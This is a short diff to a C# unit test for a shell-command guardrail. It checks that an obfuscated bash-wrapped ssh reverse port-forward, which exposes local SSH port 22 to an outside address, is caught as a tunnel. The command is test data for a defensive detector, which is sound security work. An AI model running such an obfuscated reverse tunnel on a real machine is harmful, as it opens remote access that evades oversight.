@@ -45,7 +45,7 @@ public class KnownDivergenceTests
         var policy = ShellPolicy.Compile([TestGrants.Shell("g", ["bash *", "ssh *"])]);
 
         var verdict = ShellEvaluator.Decide(
-            new ShellAction("bash -c \"ssh $'-\\x{52}' 9000:localhost:22 a@198.51.100.7\"", "/srv/project"), policy, TestKnowledge.Shell, TestGrants.Now);
+            new ShellAction("bash -c \"ssh $'-\\x{52}' 9000:localhost:22 a@198.51.100.7\"", "/srv/project"), policy, TestKnowledge.Shell, TestGrants.Now, TestKnowledge.ShellNetwork);
 
         Assert.Equal("guardrail:shell.tunnel", verdict.Rule);
     }
